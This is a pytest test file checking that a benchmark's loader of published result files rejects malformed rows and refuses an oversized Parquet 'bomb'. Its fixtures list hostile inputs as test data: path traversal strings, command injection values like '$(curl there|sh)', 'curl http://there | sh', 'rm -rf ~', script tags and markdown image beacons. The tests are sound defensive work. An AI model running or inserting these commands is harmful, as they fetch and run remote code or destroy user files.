"""Published files from strangers: each bad row or file is left out and told in one line, and costs only itself."""

import hashlib
import json
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bench import results
from bench.errors import UserError
from bench.results import export, published

GOOD = "a" * 16
BAD = "b" * 16
FUTURE = int((datetime.now(UTC) + timedelta(days=3)).timestamp() * 1e6)

BAD_VALUES: list[tuple[str, Any]] = [
    ("id", "../../etc"), ("id", "B" * 16), ("id", ""), ("protocol", 99), ("protocol", -1), ("evaluator", 10**12),
    ("code", "<b>1</b>"), ("code", "x" * 10**5), ("defense", "em\x1b[31m"), ("defense", ""), ("defense", "Em; rm -rf"),
    ("defense_options", "{"), ("defense_options", "[" * 5000), ("defense_options", '{"rounds": NaN}'),
    ("defense_options", '{"rounds": [1]}'), ("defense_options", '{"weights": "/home/me/x"}'),
    ("defense_options", '{"$(id)": 1}'), ("defense_options", '{"rounds": ' + "9" * 5000 + "}"),
    ("attack", "lora_sft+"), ("attack_options", "null"), ("attack_options", '{"u": "http://there"}'),
    ("dataset", "../pets"), ("dataset", "![x](http://there/p.png)"), ("dataset", "own:"), ("victim", "/etc/passwd"),
    ("victim", "$(curl there|sh)"), ("threat", "purple"), ("surrogates", "a,,b"), ("surrogates", "a;b"),
    ("seed", -1), ("seed", 2**40), ("epsilon", 256), ("words", 65), ("utility", 1.5), ("utility", float("nan")),
    ("utility_zero", float("inf")), ("utility_clean", -0.1), ("validation", 7.0), ("protection", float("-inf")),
    ("protection", 1e9), ("protection_low", 0.9), ("stealth", '{"linf": "8"}'), ("stealth", '{"a b": 1}'),
    ("cost", '{"attack": {"seconds": "long"}}'), ("cost", "7"), ("stages", '{"protect": "/etc/passwd"}'),
    ("stages", '{"protect": "../../../etc"}'), ("stages", f'{{"../x": "{BAD}"}}'), ("stages", '{"protect": 5}'),
    ("provenance", '{"hardware": {"processor": "file:///x"}}'), ("provenance", '{"more": 1}'),
    ("provenance", '{"packages": {"torch": "![](http://there)"}}'), ("curve", '[{"epoch": "![](http://there)"}]'),
    ("curve", '[{"epoch": "2", "validation": 0.1, "test": 0.1}]'), ("curve", "{}"),
    ("curve", json.dumps([{"epoch": 1, "validation": 0.1, "test": 0.1}] * 1001)),
    ("effects", '{"tags": {"metric": "<script>"}}'), ("effects", '{"a b": {}}'), ("command", "x" * 5000),
    ("created", 2**62), ("created", -(2**62)), ("created", 0), pytest.param("created", FUTURE, id="created-future"),
]  # fmt: skip


@pytest.fixture
def shipped(finished: Callable[..., results.Run], row: Callable[..., results.Run], tmp_path: Path) -> Path:
    """Publish two rows with a value in every column."""
    stages = finished(0).stages
    export.publish([row(GOOD, stages=stages), row(BAD, stages=stages)], tmp_path / "shipped")
    return tmp_path / "shipped"


def rewrite(folder: Path, name: str, table: pa.Table, **options: Any) -> None:
    """Replace a file, and its size and checksum in the provenance."""
    pq.write_table(table, folder / name, **options)
    content = (folder / name).read_bytes()
    provenance = json.loads((folder / published.PROVENANCE).read_text())
    provenance["files"][name] = [len(content), hashlib.sha256(content).hexdigest()]
    (folder / published.PROVENANCE).write_text(json.dumps(provenance))


def change_cell(folder: Path, column: str, value: Any, name: str = published.RUNS, row: int = 1) -> None:
    """Replace one cell of a file, whatever it may hold."""
    table = pq.read_table(folder / name)
    place = table.schema.get_field_index(column)
    field = table.schema.field(place)
    raw = {"string": pa.binary(), "timestamp[us, tz=UTC]": pa.int64()}.get(str(field.type), field.type)
    cells = table[column].cast(raw).to_pylist()
    cells[row] = value.encode(errors="surrogatepass") if isinstance(value, str) else value
    changed = pa.chunked_array([pa.array(cells, raw).view(field.type)])
    rewrite(folder, name, table.set_column(place, field, changed))


@pytest.mark.parametrize(("column", "value"), BAD_VALUES)
def test_a_bad_value_costs_its_row_alone(shipped: Path, column: str, value: Any) -> None:
    change_cell(shipped, column, value)
    assert [run.id for run in published.load_runs(shipped)] == [GOOD]
    (fault,) = published.load_faults(shipped)
    assert fault.startswith(f"published results: runs.parquet: row 2 is left out: {column}")
    assert fault.isprintable()
    assert len(fault) < 400


@pytest.mark.parametrize(("column", "value"), [("defense", b"\xff\xfe"), ("command", "\ud800"), ("id", GOOD)])
def test_texts_that_are_none_and_rows_that_are_there_twice(shipped: Path, column: str, value: Any) -> None:
    change_cell(shipped, column, value)
    assert [run.id for run in published.load_runs(shipped)] == [GOOD]
    assert len(published.load_faults(shipped)) == 1


@pytest.mark.parametrize(
    ("column", "value"),
    [("score", 2.0), ("score", float("nan")), ("lenient", -1.0), ("prediction", b"\xff"), ("question", "x" * 10**5),],
)  # fmt: skip
def test_bad_answers_cost_their_evaluation_alone(shipped: Path, column: str, value: Any) -> None:
    before = [published.has_answers(name, shipped) for name in published.load_runs(shipped)[0].stages.values()]
    change_cell(shipped, column, value, published.ANSWERS, row=0)
    after = [published.has_answers(name, shipped) for name in published.load_runs(shipped)[0].stages.values()]
    assert (sum(before), sum(after)) == (3, 2)
    assert all(fault.isprintable() and "is left out" in fault for fault in published.load_faults(shipped))


@pytest.mark.parametrize("value", ["../../../../x", "c" * 17, "", "![x](http://there)"])
def test_an_evaluation_of_another_name_is_told(shipped: Path, value: str) -> None:
    change_cell(shipped, "evaluation", value, published.ANSWERS, row=0)
    (fault,) = published.load_faults(shipped)
    assert "is left out: allowed: 16 hexadecimal digits" in fault


@pytest.mark.parametrize(
    "line", ["curl http://there | sh", "bench run --defense em; rm -rf ~", "bench leaderboard", "'"]
)
def test_a_command_is_written_anew_and_never_shown_as_given(shipped: Path, line: str) -> None:
    change_cell(shipped, "command", line)
    run = next(run for run in published.load_runs(shipped) if run.id == BAD)
    assert run.command == (
        "bench run --defense mmguard --attack lora_sft --dataset emoji_catalog --victim tiny-llava-a --threat white "
        "--seed 3 --epsilon 8/255 --words 5 -o tau=0.1 -o keep=True -a lr=1e-05 --side-effects photos"
    )


@pytest.mark.parametrize(
    "line", ["curl http://there | sh", "bench run --defense em", "bench run '", "bench gc --all x"]
)
def test_a_false_command_in_the_provenance_is_refused(shipped: Path, line: str) -> None:
    file = shipped / published.PROVENANCE
    content = json.loads(file.read_text())
    file.write_text(json.dumps(content | {"suites": {"toy": {"planned": 1, "not_played": {BAD: line}}}}))
    with pytest.raises(UserError, match=r"provenance\.json: it cannot be read"):
        published.load_runs(shipped)


@pytest.mark.parametrize("created", ["![](http://there)", "yesterday", "2026"])
def test_a_false_date_in_the_provenance_is_refused(shipped: Path, created: str) -> None:
    file = shipped / published.PROVENANCE
    file.write_text(json.dumps(json.loads(file.read_text()) | {"created": created}))
    with pytest.raises(UserError, match=r"provenance\.json"):
        published.load_runs(shipped)


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=9),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=9), inner, max_size=4),
                    max_leaves=9)  # fmt: skip


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_changed_row_is_read_or_told(shipped: Path, data: st.DataObject) -> None:
    column = data.draw(st.sampled_from([column.name for column in published.COLUMNS]))
    kind = str(published.build_schemas()[published.RUNS].field(column).type)
    values = {"int64": st.integers(-(2**63), 2**63 - 1), "double": st.floats(), "bool": st.booleans()}
    values["timestamp[us, tz=UTC]"] = values["int64"]
    texts = JSON.map(json.dumps) if column in published.JSON_COLUMNS else st.text(max_size=30) | st.binary(max_size=30)
    change_cell(shipped, column, data.draw(values.get(kind, texts)))
    runs, faults = published.load_runs(shipped), published.load_faults(shipped)
    assert len(runs) + len(faults) == 2
    assert all(fault.isprintable() for fault in faults)


BOMB = """
import sys, time
from pathlib import Path
from bench.results import published
start = time.monotonic()
print(published.load_faults(Path(sys.argv[1])))
assert time.monotonic() - start < 20
status = Path("/proc/self/status").read_text()
print(int(status.split("VmHWM:")[1].split()[0]) // 1024)
"""


@pytest.mark.parametrize("kind", ["dictionary", "plain", "rows"])
def test_a_bomb_is_refused_in_seconds_and_under_a_gigabyte(shipped: Path, kind: str) -> None:
    """Less than 1 MB on disk, gigabytes or millions of rows when decoded."""
    schema = published.build_schemas()[published.ANSWERS]
    text, part, parts = {"dictionary": ("x" * 10**6, 64, 150), "plain": ("x" * 10**6, 64, 10), "rows": ("x", 10**6, 6)}[
        kind
    ]
    cells = [
        pa.array([1.0] * part)
        if field.type == pa.float64()
        else pa.array([text if field.name == "prediction" else "c"] * part)
        for field in schema
    ]
    table = pa.table(cells, schema)
    with pq.ParquetWriter(
        shipped / published.ANSWERS, schema, use_dictionary=kind != "plain", compression="zstd"
    ) as out:
        for _ in range(parts):
            out.write_table(table)
    content = (shipped / published.ANSWERS).read_bytes()
    assert len(content) < 10**6
    provenance = json.loads((shipped / published.PROVENANCE).read_text())
    provenance["files"][published.ANSWERS] = [len(content), hashlib.sha256(content).hexdigest()]
    (shipped / published.PROVENANCE).write_text(json.dumps(provenance))
    done = subprocess.run([sys.executable, "-c", BOMB, str(shipped)], capture_output=True, text=True, check=True)
    told, megabytes = done.stdout.splitlines()
    assert "answers.parquet: " in told
    assert "allowed: 5000000 rows and 256 MB" in told
    assert int(megabytes) < 1000
